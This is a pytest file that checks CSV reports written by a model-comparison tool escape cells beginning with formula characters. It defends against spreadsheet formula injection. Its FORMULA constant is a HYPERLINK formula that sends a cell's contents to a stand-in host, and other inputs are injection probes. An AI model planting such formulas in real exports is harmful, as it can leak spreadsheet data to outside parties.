"""Reports open in a spreadsheet as text: a cell from a dump that would start a formula is escaped
(msprobe_rewrite/csv_cells.py), in the compare's tables as in the pre-check's."""

import csv
import json
import shutil

import pytest

from msprobe_rewrite.compare import compare_runs
from msprobe_rewrite.csv_cells import safe_cell

from .conftest import MSPROBE_DUMP

FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")'


@pytest.mark.parametrize("text", [FORMULA, "+SUM(A1:A9)", "-2+3", "@SUM(1)", "\t=1", "\r=1", "-x.0.forward"])
def test_text_that_starts_a_formula_is_escaped(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize(
    "value", ["-1.5", "+3e-05", "-inf", "nan", "12.5%", "-0.25%", "Torch.add.0.forward", "", -2.0, None, 3]
)
def test_numbers_and_plain_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


def test_an_entry_named_as_a_formula_is_text_in_the_compare_table(tmp_path):
    runs = []
    for side in ("a", "b"):
        copy = tmp_path / side
        shutil.copytree(MSPROBE_DUMP, copy)
        [dump_json] = copy.glob("step0/*/dump.json")
        dump = json.loads(dump_json.read_text())
        dump["data"] = {
            (FORMULA if name == "Torch.tanh.0.forward" else name): value for name, value in dump["data"].items()
        }
        dump_json.write_text(json.dumps(dump, indent=1))
        runs.append(str(copy))
    summary = compare_runs(*runs, str(tmp_path / "out"))
    assert summary["pairs"][0]["matched"] == 18
    [table] = (tmp_path / "out").glob("compare_result_*.csv")
    with open(table, newline="", encoding="utf-8") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert any(cell.startswith("'" + FORMULA) for cell in cells)
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    assert not any(cell.startswith("-") and not cell[1:2].isdigit() and cell != "-inf" for cell in cells)
